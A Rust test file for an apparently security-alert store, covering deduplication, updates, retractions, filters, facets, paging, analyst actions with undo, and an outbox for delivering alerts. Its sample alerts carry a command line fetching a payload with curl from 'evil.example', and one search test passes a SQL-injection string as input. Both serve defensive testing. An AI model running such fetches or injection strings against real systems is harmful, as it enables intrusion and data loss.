//! Alerts: kept once, found, worked on, undone, delivered.

#![expect(
    clippy::unwrap_used,
    reason = "the lints know test functions only, not what these call"
)]

use std::path::Path;
use std::sync::Arc;

use neph_event::Instant;
use neph_store::{
    AlertAction, AlertChange, AlertQuery, AlertSort, AlertState, Commit, Cursor, Database, DeliveryKind,
    Facet, Limits, Selection, Severity, Store, StoreError, StoreOptions, StoredAlert, Verdict,
};
use serde_json::json;

fn at(seconds: i64) -> Instant {
    Instant { seconds, nanos: 0 }
}

fn open(folder: &Path) -> Store {
    let limits = Limits {
        min_free_bytes: 0,
        ..Limits::default()
    };
    Store::open(folder, &StoreOptions { limits }).unwrap().0
}

fn store() -> (tempfile::TempDir, Store) {
    let folder = tempfile::tempdir().unwrap();
    let store = open(folder.path());
    (folder, store)
}

const SEVERITIES: [&str; 4] = ["low", "medium", "high", "critical"];

/// Alert number n as the rules would write it, with `extra` in its process.
fn alert_with(number: usize, extra: &str) -> StoredAlert {
    let document = json!({
        "@timestamp": at(1000 + number as i64).to_string(),
        "message": format!("On `web-{}`: `curl` ran", number % 5),
        "event": {"id": format!("a{number:04}"), "start": at(900).to_string(), "end": at(1000).to_string(), "risk_score": number % 100},
        "rule": {"id": format!("rule-{}", number % 3), "name": format!("Rule {}", number % 3), "version": "7"},
        "threat": {"tactic": {"name": ["Execution"]}, "technique": {"id": ["T1059"], "subtechnique": {"id": [format!("T1059.00{}", number % 4)]}}},
        "tags": ["Domain: Cloud", format!("Set: {}", number % 2)],
        "host": {"name": format!("web-{}", number % 5)},
        "user.name": ["www-data", "root"],
        "process": {"name": "curl", "command_line": format!("curl http://evil.example/{extra}")},
        "kibana.alert.severity": SEVERITIES.get(number % 4),
        "neph": {"alert": {"join_keys": [{"fields": ["source.ip", "made.up"], "value": format!("10.0.0.{number}")}]}},
    });
    StoredAlert::from_document(document.to_string().into_bytes()).unwrap()
}

fn alert(number: usize) -> StoredAlert {
    alert_with(number, "payload")
}

fn raise(
    db: &Database,
    alerts: impl IntoIterator<Item = AlertChange>,
    outputs: &[&str],
) -> neph_store::Committed {
    let commit = Commit {
        now: at(5000),
        alerts: alerts.into_iter().collect(),
        outputs: outputs.iter().map(|output| Arc::from(*output)).collect(),
        ..Commit::default()
    };
    db.commit(commit).unwrap()
}

fn with_alerts(count: usize) -> (tempfile::TempDir, Store) {
    let (folder, store) = store();
    raise(
        &store.db,
        (0..count).map(|number| AlertChange::Raised(alert(number))),
        &[],
    );
    (folder, store)
}

fn ids(db: &Database, query: &AlertQuery) -> String {
    let page = db.search(query, AlertSort::Time, true, None, 1000).unwrap();
    let numbers: Vec<&str> = page
        .alerts
        .iter()
        .map(|found| found.alert.id.trim_start_matches("a0").trim_start_matches('0'))
        .collect();
    assert_eq!(db.count_alerts(query).unwrap(), numbers.len() as u64);
    numbers.join(" ")
}

#[test]
fn a_document_says_everything() {
    let alert = alert(7);
    assert_eq!(
        (
            alert.id.as_str(),
            alert.rule_id.as_str(),
            alert.rule_name.as_str()
        ),
        ("a0007", "rule-1", "Rule 1")
    );
    assert_eq!(
        (alert.severity, alert.risk_score, alert.time),
        (Severity::Critical, 7, at(1007))
    );
    assert_eq!(
        (alert.first, alert.last, alert.count),
        (Some(at(900)), Some(at(1000)), 1)
    );
    assert_eq!(alert.techniques, ["T1059", "T1059.003"]);
    let entities: Vec<(&str, &str)> = alert
        .entities
        .iter()
        .map(|(field, value)| (field.as_str(), value.as_str()))
        .collect();
    assert_eq!(
        entities,
        [
            ("host.name", "web-2"),
            ("process.name", "curl"),
            ("source.ip", "10.0.0.7"),
            ("user.name", "root"),
            ("user.name", "www-data"),
        ]
    );
    for wrong in ["", "[]", "{}", r#"{"event":{"id":"x"}}"#] {
        assert!(
            StoredAlert::from_document(wrong.as_bytes().to_vec()).is_err(),
            "{wrong}"
        );
    }
}

#[test]
fn an_alert_is_kept_once_whoever_repeats_it() {
    let (folder, store) = store();
    let first = raise(
        &store.db,
        [AlertChange::Raised(alert(1)), AlertChange::Raised(alert(1))],
        &["mail", "file"],
    );
    assert_eq!(
        (first.raised.as_slice(), first.repeated),
        (["a0001".to_owned()].as_slice(), 1)
    );
    drop(store);
    let store = open(folder.path());
    let again = raise(
        &store.db,
        [AlertChange::Raised(alert(1)), AlertChange::Updated(alert(1))],
        &["mail", "file"],
    );
    assert_eq!(
        (again.raised.len(), again.updated.len(), again.repeated),
        (0, 0, 2)
    );
    assert_eq!(store.db.due("mail", at(9000), 10).unwrap().len(), 1);
    let kept = store.db.alert("a0001").unwrap();
    assert_eq!(kept.alert, alert(1));
    assert_eq!(
        (kept.state, kept.created, kept.updates),
        (AlertState::Open, at(5000), 0)
    );
    assert!(matches!(
        store.db.alert("nothing"),
        Err(StoreError::Missing { .. })
    ));
}

#[test]
fn updates_replace_what_the_pipeline_says_and_keep_what_analysts_did() {
    let (_folder, store) = store();
    raise(&store.db, [AlertChange::Raised(alert(1))], &["mail"]);
    let mine = || Selection::Ids(vec!["a0001".to_owned()]);
    store
        .db
        .act(mine(), AlertAction::Acknowledge, "ann", at(6000))
        .unwrap();
    store
        .db
        .act(
            mine(),
            AlertAction::AddTags {
                tags: vec!["mine".into()],
            },
            "ann",
            at(6000),
        )
        .unwrap();
    let done = raise(
        &store.db,
        [AlertChange::Updated(alert_with(1, "second"))],
        &["mail"],
    );
    assert_eq!(done.updated, ["a0001"]);
    let now = store.db.alert("a0001").unwrap();
    assert_eq!(
        (now.alert, now.state, now.updates),
        (alert_with(1, "second"), AlertState::Acknowledged, 1)
    );
    assert_eq!(now.labels, ["mine"]);
    // It waits to be delivered in its newest form, once.
    let due = store.db.due("mail", at(9000), 10).unwrap();
    assert_eq!((due.len(), due[0].kind), (1, DeliveryKind::Raised));
    assert_eq!(due[0].alert.alert.document, alert_with(1, "second").document);
    assert_eq!(ids(&store.db, &query(|query| query.text = "second".into())), "1");
    assert_eq!(ids(&store.db, &query(|query| query.text = "payload".into())), "");
    // Delivered, the next update is told again.
    store.db.delivered(&[(due[0].seq, 1)], at(9000)).unwrap();
    raise(
        &store.db,
        [AlertChange::Updated(alert_with(1, "third"))],
        &["mail"],
    );
    assert_eq!(
        store.db.due("mail", at(9000), 10).unwrap()[0].kind,
        DeliveryKind::Updated
    );
}

#[test]
fn a_withdrawn_alert_is_kept_and_may_come_back() {
    let (_folder, store) = store();
    let retract = || AlertChange::Retracted { id: "a0001".into() };
    raise(
        &store.db,
        [AlertChange::Raised(alert(1)), retract(), retract()],
        &["mail"],
    );
    assert_eq!(ids(&store.db, &AlertQuery::default()), "");
    assert_eq!(ids(&store.db, &query(|query| query.retracted = true)), "1");
    let kinds = |db: &Database| {
        db.due("mail", at(9000), 10)
            .unwrap()
            .iter()
            .map(|one| one.kind)
            .collect::<Vec<_>>()
    };
    assert_eq!(kinds(&store.db), [DeliveryKind::Raised, DeliveryKind::Retracted]);
    raise(&store.db, [AlertChange::Raised(alert(1))], &["mail"]);
    assert_eq!(ids(&store.db, &AlertQuery::default()), "1");
    assert_eq!(
        raise(
            &store.db,
            [AlertChange::Retracted { id: "unknown".into() }],
            &["mail"]
        ),
        Default::default()
    );
}

fn query(change: impl FnOnce(&mut AlertQuery)) -> AlertQuery {
    let mut query = AlertQuery::default();
    change(&mut query);
    query
}

#[test]
fn what_is_excluded_is_left_out_and_what_has_no_value_is_not_excluded_by_one() {
    let (_folder, store) = with_alerts(12);
    let db = &store.db;
    let close = AlertAction::Close {
        verdict: Verdict::FalsePositive,
        reason: "known".into(),
    };
    db.act(
        Selection::Ids(vec!["a0002".into(), "a0003".into()]),
        close,
        "ann",
        at(6000),
    )
    .unwrap();
    let find = |excluded: &[fn(&mut AlertQuery)]| {
        let excluded = excluded.iter().map(query).collect();
        ids(db, &query(|query| query.excluded = excluded))
    };
    // Most have no verdict at all, and stay.
    assert_eq!(
        find(&[|query| query.verdicts = vec![Verdict::FalsePositive]]),
        " 1 4 5 6 7 8 9 10 11"
    );
    assert_eq!(
        find(&[|query| query.rules = vec!["rule-0".into()]]),
        "1 2 4 5 7 8 10 11"
    );
    assert_eq!(
        find(&[|query| query.techniques = vec!["T1059.001".into()]]),
        " 2 3 4 6 7 8 10 11"
    );
    assert_eq!(find(&[|query| query.techniques = vec!["T1059".into()]]), "");
    assert_eq!(
        find(&[
            |query| query.rules = vec!["rule-0".into()],
            |query| query.severities = vec![Severity::Critical],
            |query| query.entities = vec![("host.name".into(), "web-1".into())],
        ]),
        "2 4 5 8 10"
    );
    // Together with what must hold, in counts and in actions as in the list.
    let both = query(|query| {
        query.tags = vec!["Set: 1".into()];
        query.excluded = vec![AlertQuery {
            rules: vec!["rule-0".into()],
            ..AlertQuery::default()
        }];
    });
    assert_eq!(ids(db, &both), "1 5 7 11");
    assert_eq!(db.count_alerts(&both).unwrap(), 4);
    let by_rule = db.count_by(&both, &Facet::Rule, 10).unwrap();
    assert!(by_rule.iter().all(|(rule, _)| rule != "rule-0"), "{by_rule:?}");
    let day = 86_400_000_000_000;
    let counted = db.histogram(&both, &Facet::Severity, day).unwrap();
    assert_eq!(counted.iter().map(|(_, _, count)| count).sum::<u64>(), 4);
    let done = db
        .act(
            Selection::Query(Box::new(both)),
            AlertAction::Acknowledge,
            "ann",
            at(6001),
        )
        .unwrap();
    assert_eq!(done.changed, 4);
}

#[test]
fn every_filter_finds_its_own() {
    let (_folder, store) = with_alerts(12);
    let db = &store.db;
    let close = AlertAction::Close {
        verdict: Verdict::Benign,
        reason: "known".into(),
    };
    db.act(
        Selection::Ids(vec!["a0002".into(), "a0003".into()]),
        close,
        "ann",
        at(6000),
    )
    .unwrap();
    let assign = AlertAction::Assign {
        assignee: Some("bob".into()),
    };
    db.act(Selection::Ids(vec!["a0004".into()]), assign, "ann", at(6000))
        .unwrap();
    let tag = AlertAction::AddTags {
        tags: vec!["week".into()],
    };
    db.act(Selection::Ids(vec!["a0005".into()]), tag, "ann", at(6000))
        .unwrap();
    let find = |change: fn(&mut AlertQuery)| ids(db, &query(change));
    assert_eq!(find(|_| {}), " 1 2 3 4 5 6 7 8 9 10 11");
    assert_eq!(find(|query| query.states = vec![AlertState::Closed]), "2 3");
    assert_eq!(
        find(|query| query.states = vec![AlertState::Closed, AlertState::Open]),
        " 1 2 3 4 5 6 7 8 9 10 11"
    );
    assert_eq!(find(|query| query.verdicts = vec![Verdict::Benign]), "2 3");
    assert_eq!(find(|query| query.verdicts = vec![Verdict::FalsePositive]), "");
    assert_eq!(
        find(|query| query.severities = vec![Severity::Critical]),
        "3 7 11"
    );
    assert_eq!(find(|query| query.rules = vec!["rule-0".into()]), " 3 6 9");
    assert_eq!(find(|query| query.techniques = vec!["T1059.001".into()]), "1 5 9");
    assert_eq!(
        find(|query| query.techniques = vec!["T1059".into()]),
        " 1 2 3 4 5 6 7 8 9 10 11"
    );
    assert_eq!(find(|query| query.techniques = vec!["T105".into()]), "");
    assert_eq!(
        find(|query| query.tactics = vec!["Execution".into()]),
        " 1 2 3 4 5 6 7 8 9 10 11"
    );
    assert_eq!(find(|query| query.tags = vec!["Set: 1".into()]), "1 3 5 7 9 11");
    assert_eq!(find(|query| query.tags = vec!["week".into()]), "5");
    assert_eq!(find(|query| query.updated_from = Some(at(6000))), "2 3 4 5");
    assert_eq!(find(|query| query.assignees = vec![Some("bob".into())]), "4");
    assert_eq!(
        find(|query| query.assignees = vec![None]),
        " 1 2 3 5 6 7 8 9 10 11"
    );
    assert_eq!(
        find(|query| query.entities = vec![("host.name".into(), "web-1".into())]),
        "1 6 11"
    );
    assert_eq!(
        find(|query| query.entities = vec![("".into(), "10.0.0.8".into())]),
        "8"
    );
    let both = [
        ("host.name", "web-1"),
        ("host.name", "web-2"),
        ("source.ip", "10.0.0.7"),
    ];
    let both = both
        .map(|(field, value)| (field.to_owned(), value.to_owned()))
        .to_vec();
    assert_eq!(ids(db, &query(|query| query.entities = both)), "7");
    assert_eq!(find(|query| query.text = "web-3".into()), "3 8");
    assert_eq!(
        find(|query| query.text = "CURL evil.exa".into()),
        " 1 2 3 4 5 6 7 8 9 10 11"
    );
    assert_eq!(find(|query| query.text = "a0007".into()), "7");
    assert_eq!(find(|query| query.text = "nowhere".into()), "");
    assert_eq!(
        find(|query| (query.from, query.to) = (Some(at(1003)), Some(at(1006)))),
        "3 4 5"
    );
    let several = |query: &mut AlertQuery| {
        query.rules = vec!["rule-0".into()];
        query.text = "web".into();
        query.severities = vec![Severity::Critical, Severity::High];
    };
    assert_eq!(find(several), "3 6");
    // What people type is words, not a language.
    for odd in [
        "\"",
        "a AND",
        "NEAR(",
        "*",
        "-",
        "text:",
        "(",
        "'; DROP TABLE alerts; --",
        "\u{0}",
    ] {
        db.search(
            &query(|query| query.text = odd.into()),
            AlertSort::Time,
            false,
            None,
            10,
        )
        .unwrap();
    }
}

#[test]
fn pages_follow_on_one_another_in_every_order() {
    let (_folder, store) = with_alerts(57);
    let db = &store.db;
    for sort in [
        AlertSort::Time,
        AlertSort::Severity,
        AlertSort::Risk,
        AlertSort::Updated,
    ] {
        for ascending in [false, true] {
            let whole = db
                .search(&AlertQuery::default(), sort, ascending, None, 1000)
                .unwrap();
            assert_eq!((whole.alerts.len(), &whole.next), (57, &None));
            let mut paged = Vec::new();
            let mut after: Option<Cursor> = None;
            loop {
                let page = db
                    .search(&AlertQuery::default(), sort, ascending, after.as_ref(), 10)
                    .unwrap();
                paged.extend(page.alerts);
                let Some(next) = page.next else { break };
                after = Cursor::parse(&next.to_string());
                assert_eq!(after.as_ref(), Some(&next));
            }
            assert_eq!(paged, whole.alerts, "{sort:?} {ascending}");
            let keys: Vec<_> = paged
                .iter()
                .map(|found| match sort {
                    AlertSort::Severity => (found.alert.severity as i64, found.alert.time),
                    AlertSort::Risk => (found.alert.risk_score.into(), found.alert.time),
                    AlertSort::Time => (0, found.alert.time),
                    AlertSort::Updated => (0, found.updated),
                })
                .collect();
            assert!(if ascending {
                keys.is_sorted()
            } else {
                keys.iter().rev().is_sorted()
            });
        }
    }
    for wrong in ["", "1", "1_2", "1_2_3_4", "a_b_c"] {
        assert_eq!(Cursor::parse(wrong), None);
    }
}

#[test]
fn facets_count_what_the_query_finds() {
    let (_folder, store) = with_alerts(12);
    let db = &store.db;
    let count = |facet: Facet| {
        let counts = db
            .count_by(&query(|query| query.rules = vec!["rule-0".into()]), &facet, 10)
            .unwrap();
        counts
            .iter()
            .map(|(name, count)| format!("{name}={count}"))
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(count(Facet::State), "open=4");
    assert_eq!(count(Facet::Severity), "low=1 medium=1 high=1 critical=1");
    assert_eq!(count(Facet::Verdict), "");
    assert_eq!(count(Facet::Rule), "rule-0=4");
    assert_eq!(
        count(Facet::Technique),
        "T1059=4 T1059.000=1 T1059.001=1 T1059.002=1 T1059.003=1"
    );
    assert_eq!(count(Facet::Tactic), "Execution=4");
    assert_eq!(count(Facet::Tag), "Domain: Cloud=4 Set: 0=2 Set: 1=2");
    assert_eq!(count(Facet::Assignee), "=4");
    assert_eq!(
        count(Facet::Entity("host.name".into())),
        "web-0=1 web-1=1 web-3=1 web-4=1"
    );
    assert_eq!(count(Facet::Day), "1970-01-01=4");
}

#[test]
fn few_alerts_are_counted_as_many_are_and_a_tag_of_rule_and_analyst_counts_once() {
    let (_folder, store) = with_alerts(40);
    let db = &store.db;
    let tags = AlertAction::AddTags {
        tags: vec!["Domain: Cloud".into(), "own".into()],
    };
    db.act(Selection::Ids(vec!["a0000".into()]), tags, "ann", at(6000))
        .unwrap();
    let count = |query: &AlertQuery| {
        let counts = db.count_by(query, &Facet::Tag, 10).unwrap();
        counts
            .iter()
            .map(|(name, count)| format!("{name}={count}"))
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(
        count(&AlertQuery::default()),
        "Domain: Cloud=40 Set: 0=20 Set: 1=20 own=1"
    );
    let one = query(|query| query.entities = vec![("source.ip".into(), "10.0.0.0".into())]);
    assert_eq!(count(&one), "Domain: Cloud=1 Set: 0=1 own=1");
    let none = query(|query| query.rules = vec!["none".into()]);
    assert_eq!(count(&none), "");
}

#[test]
fn alerts_in_brief_are_the_newest_in_the_order_of_time() {
    let (_folder, store) = with_alerts(5);
    let ids = |most| {
        let (found, more) = store
            .db
            .brief(&AlertQuery::default(), &["host.name"], most)
            .unwrap();
        let ids: Vec<String> = found.iter().map(|alert| alert.id.clone()).collect();
        (ids.join(" "), more, found)
    };
    let (all, more, found) = ids(10);
    assert_eq!((all.as_str(), more), ("a0000 a0001 a0002 a0003 a0004", false));
    let last = found.last().unwrap();
    assert_eq!(last.entities, [("host.name".to_owned(), "web-4".to_owned())]);
    assert_eq!((last.techniques.len(), last.tactics.len()), (2, 1));
    let (newest, more, _) = ids(2);
    assert_eq!((newest.as_str(), more), ("a0003 a0004", true));
}

#[test]
fn actions_are_written_down_and_can_be_undone() {
    let (_folder, store) = with_alerts(6);
    let db = &store.db;
    let close = AlertAction::Close {
        verdict: Verdict::FalsePositive,
        reason: "scanner".into(),
    };
    let even = query(|query| query.tags = vec!["Set: 0".into()]);
    let done = db
        .act(Selection::Query(Box::new(even)), close.clone(), "ann", at(6000))
        .unwrap();
    assert_eq!((done.changed, done.unchanged, done.missing.len()), (3, 0, 0));
    let some = Selection::Ids(vec!["a0000".into(), "a0001".into(), "gone".into()]);
    let again = db.act(some, close, "bob", at(6001)).unwrap();
    assert_eq!(
        (again.changed, again.unchanged, again.missing),
        (1, 1, vec!["gone".to_owned()])
    );
    let note = AlertAction::Note {
        text: "look at the proxy".into(),
    };
    db.act(Selection::Ids(vec!["a0002".into()]), note, "bob", at(6002))
        .unwrap();
    let assign = AlertAction::Assign {
        assignee: Some("eve".into()),
    };
    db.act(Selection::Ids(vec!["a0004".into()]), assign, "eve", at(6003))
        .unwrap();

    let closed = db.alert("a0002").unwrap();
    assert_eq!(
        (closed.state, closed.verdict, closed.closed),
        (AlertState::Closed, Some(Verdict::FalsePositive), Some(at(6000)))
    );
    assert_eq!(closed.close_reason.as_deref(), Some("scanner"));

    // Ann undoes hers: what Eve touched since stays.
    let undone = db.undo(None, "ann", at(6010)).unwrap();
    assert_eq!(
        (undone.action, undone.restored, undone.changed_since),
        (done.action, 2, 1)
    );
    let reopened = db.alert("a0002").unwrap();
    assert_eq!(
        (
            reopened.state,
            reopened.verdict,
            reopened.closed,
            reopened.close_reason
        ),
        (AlertState::Open, None, None, None)
    );
    assert_eq!(db.alert("a0004").unwrap().state, AlertState::Closed);
    assert!(
        matches!(db.undo(None, "ann", at(6011)), Err(StoreError::Missing { .. })),
        "nothing is left"
    );
    assert!(
        matches!(
            db.undo(Some(done.action), "bob", at(6011)),
            Err(StoreError::Missing { .. })
        ),
        "not twice"
    );
    // Bob's last one is a note.
    assert_eq!(db.undo(None, "bob", at(6012)).unwrap().restored, 1);

    let history = db.alert_history("a0002").unwrap();
    let lines: Vec<String> = history
        .iter()
        .map(|one| format!("{} {} {} {}", one.at.seconds, one.who, one.what, one.undone))
        .collect();
    assert_eq!(
        lines,
        [
            "6000 ann close true",
            "6002 bob note true",
            "6010 ann undo false",
            "6012 bob undo false"
        ]
    );
    assert_eq!(
        history[0].details,
        r#"{"action":"close","verdict":"false_positive","reason":"scanner"}"#
    );
    assert_eq!(history[0].before, r#"{"state":"open"}"#);
    assert_eq!(history[2].after, r#"{"state":"open"}"#);

    for wrong in [
        AlertAction::Note { text: " ".into() },
        AlertAction::AddTags { tags: vec![] },
        AlertAction::Assign {
            assignee: Some(String::new()),
        },
        AlertAction::Note {
            text: "x".repeat(100_000),
        },
    ] {
        let result = db.act(Selection::Ids(vec!["a0001".into()]), wrong, "ann", at(1));
        assert!(matches!(result, Err(StoreError::Invalid { .. })));
    }
}

#[test]
fn old_closed_alerts_go_with_all_that_is_theirs() {
    let (_folder, store) = store();
    let db = &store.db;
    raise(
        db,
        (0..4).map(|number| AlertChange::Raised(alert(number))),
        &["mail"],
    );
    let close = AlertAction::Close {
        verdict: Verdict::Benign,
        reason: String::new(),
    };
    let some = Selection::Ids(vec!["a0000".into(), "a0001".into()]);
    db.act(some, close.clone(), "ann", at(6000)).unwrap();
    db.act(Selection::Ids(vec!["a0002".into()]), close, "ann", at(7000))
        .unwrap();
    assert_eq!(db.prune_alerts(at(6500)).unwrap(), 0, "they wait to be delivered");
    let due: Vec<(i64, u64)> = db
        .due("mail", at(9000), 10)
        .unwrap()
        .iter()
        .map(|one| (one.seq, one.alert.updates))
        .collect();
    db.delivered(&due, at(9000)).unwrap();
    assert_eq!(db.prune_alerts(at(6500)).unwrap(), 2);
    assert_eq!(ids(db, &AlertQuery::default()), "2 3");
    assert_eq!(ids(db, &query(|query| query.text = "web-0".into())), "");
    assert_eq!(
        db.count_by(&AlertQuery::default(), &Facet::Entity("host.name".into()), 9)
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn the_outbox_tries_again_gives_up_and_revives() {
    let (folder, store) = store();
    raise(
        &store.db,
        (0..3).map(|number| AlertChange::Raised(alert(number))),
        &["mail", "hook"],
    );
    drop(store);
    let db = open(folder.path()).db;
    assert!(
        db.due("mail", at(4999), 10).unwrap().is_empty(),
        "not due before it was raised"
    );
    let due = db.due("mail", at(5000), 2).unwrap();
    assert_eq!(
        due.iter()
            .map(|one| one.alert.alert.id.as_str())
            .collect::<Vec<_>>(),
        ["a0000", "a0001"]
    );
    db.failed(&[due[0].seq], "connection refused", at(5000), at(5100))
        .unwrap();
    assert_eq!(db.next_due("mail").unwrap(), Some(at(5000)));
    db.dead(&[due[1].seq], "status 400", at(5000)).unwrap();
    let rest = db.due("mail", at(5050), 10).unwrap();
    assert_eq!(rest.len(), 1);
    db.delivered(&[(rest[0].seq, 0)], at(5050)).unwrap();
    assert_eq!(db.next_due("mail").unwrap(), Some(at(5100)));
    let again = db.due("mail", at(5100), 10).unwrap();
    assert_eq!(
        (
            again.len(),
            again[0].attempts,
            again[0].error.as_deref(),
            again[0].tried
        ),
        (1, 1, Some("connection refused"), Some(at(5000)))
    );
    assert_eq!(db.dead_letters("mail", 0, 10).unwrap()[0].alert.alert.id, "a0001");
    let counts = db.outbox_counts().unwrap();
    let of = |name: &str| counts.iter().find(|one| one.output == name).unwrap();
    assert_eq!(
        (of("mail").waiting, of("mail").dead, of("mail").delivered),
        (1, 1, 1)
    );
    assert_eq!((of("hook").waiting, of("hook").oldest), (3, Some(at(5000))));
    assert_eq!(db.revive("mail", at(6000)).unwrap(), 1);
    assert_eq!(db.due("mail", at(6000), 10).unwrap().len(), 2);
}

#[test]
fn what_changes_while_it_is_delivered_is_told_once_more() {
    let (_folder, store) = store();
    let db = &store.db;
    raise(db, [AlertChange::Raised(alert(1))], &["mail"]);
    let sent = db.due("mail", at(9000), 10).unwrap();
    // The message is under way when the alert comes to stand for more.
    raise(db, [AlertChange::Updated(alert_with(1, "second"))], &["mail"]);
    db.delivered(&[(sent[0].seq, sent[0].alert.updates)], at(9000))
        .unwrap();
    let due = db.due("mail", at(9000), 10).unwrap();
    assert_eq!(
        (due.len(), due[0].kind, due[0].alert.updates),
        (1, DeliveryKind::Updated, 1)
    );
    db.delivered(&[(due[0].seq, 1)], at(9000)).unwrap();
    assert!(db.due("mail", at(9000), 10).unwrap().is_empty());
    // Withdrawn and raised again it has another version each time.
    raise(db, [AlertChange::Retracted { id: "a0001".into() }], &["mail"]);
    let due = db.due("mail", at(9000), 10).unwrap();
    assert_eq!((due[0].kind, due[0].alert.updates), (DeliveryKind::Retracted, 2));
    db.delivered(&[(due[0].seq, 2)], at(9000)).unwrap();
    raise(db, [AlertChange::Raised(alert_with(1, "second"))], &["mail"]);
    let due = db.due("mail", at(9000), 10).unwrap();
    assert_eq!((due[0].kind, due[0].alert.updates), (DeliveryKind::Updated, 3));
}

#[test]
fn alerts_are_told_together_by_the_one_that_leads() {
    let (_folder, store) = store();
    let db = &store.db;
    let alerts = (0..6).map(|number| AlertChange::Raised(alert(number)));
    raise(db, alerts, &["mail"]);
    let due = db.due("mail", at(9000), 10).unwrap();
    let seqs: Vec<i64> = due.iter().map(|one| one.seq).collect();
    db.tell_together(seqs[1], &seqs[1..4], at(9100)).unwrap();
    db.tell_together(seqs[1], &seqs[4..5], at(9100)).unwrap();
    assert_eq!(db.due("mail", at(9000), 10).unwrap().len(), 2);
    let due = db.due("mail", at(9100), 10).unwrap();
    assert_eq!(
        due.iter().map(|one| one.seq).collect::<Vec<_>>(),
        [seqs[0], seqs[5], seqs[1]]
    );
    // An update of one that is told with others is told by itself.
    raise(db, [AlertChange::Updated(alert_with(3, "second"))], &["mail"]);
    assert_eq!(db.due("mail", at(9100), 10).unwrap().len(), 4);
    let together = db.together(seqs[1], 3, 10).unwrap();
    assert_eq!((together.count, together.updated, together.retracted), (4, 0, 0));
    assert_eq!(together.ids, ["a0001", "a0002", "a0003"]);
    let (_, hosts) = together
        .values
        .iter()
        .find(|(field, _)| field == "host.name")
        .unwrap();
    assert_eq!(hosts.iter().map(|(_, count)| count).sum::<u64>(), 4);
    db.failed(&[seqs[1]], "status 503", at(9100), at(9200)).unwrap();
    assert_eq!(db.due("mail", at(9100), 10).unwrap().len(), 3);
    db.dead(&[seqs[1]], "status 400", at(9200)).unwrap();
    let letters = db.dead_letters("mail", 0, 10).unwrap();
    assert_eq!(letters.iter().map(|one| one.seq).collect::<Vec<_>>(), seqs[1..5]);
    assert_eq!(db.dead_letters("mail", seqs[1], 1).unwrap()[0].seq, seqs[2]);
    assert_eq!(db.revive("mail", at(9300)).unwrap(), 4);
    let due = db.due("mail", at(9300), 10).unwrap();
    assert_eq!(due.len(), 7, "each by itself");
    assert!(due.iter().all(|one| (one.leader, one.tried) == (None, None)));
    db.tell_together(seqs[1], &seqs[1..5], at(9300)).unwrap();
    db.delivered(&[(seqs[1], 0)], at(9300)).unwrap();
    db.left_out(&seqs[..1]).unwrap();
    let counts = &db.outbox_counts().unwrap()[0];
    assert_eq!(
        (
            counts.waiting,
            counts.delivered,
            counts.messages,
            counts.left_out,
            counts.dead
        ),
        (2, 4, 1, 1, 0)
    );
    assert_eq!(db.discard("mail", false).unwrap(), 0);
    assert_eq!(db.discard("mail", true).unwrap(), 2);
    assert!(db.outbox_counts().unwrap().is_empty());
}

#[test]
fn alerts_are_counted_by_time_and_it_is_known_when_they_were_told_again() {
    let (_folder, store) = with_alerts(12);
    let db = &store.db;
    let close = AlertAction::Close {
        verdict: Verdict::Benign,
        reason: String::new(),
    };
    db.act(Selection::Ids(vec!["a0003".into()]), close, "me", at(9000))
        .unwrap();
    let all = AlertQuery::default();
    let told = |facet: &Facet| {
        let counts = db.histogram(&all, facet, 5_000_000_000).unwrap();
        let words = counts
            .iter()
            .map(|(from, value, count)| format!("{}:{value}={count}", from.seconds));
        words.collect::<Vec<_>>().join(" ")
    };
    assert_eq!(
        told(&Facet::State),
        "1000:open=4 1000:closed=1 1005:open=5 1010:open=2"
    );
    assert!(told(&Facet::Severity).starts_with("1000:low=2 1000:medium=1 1000:high=1 1000:critical=1 1005:"));
    let counts = db.histogram(&all, &Facet::Severity, 1).unwrap();
    assert_eq!(counts.iter().map(|(_, _, count)| count).sum::<u64>(), 12);
    assert!(db.histogram(&all, &Facet::Rule, 1).is_err());
    assert!(db.histogram(&all, &Facet::State, 0).is_err());
    // What analysts do is no telling.
    assert_eq!(db.told_again("a0003").unwrap(), None);
    raise(db, [AlertChange::Updated(alert_with(3, "more"))], &[]);
    assert_eq!(db.told_again("a0003").unwrap(), Some(at(5000)));
    assert!(db.told_again("none").is_err());
}
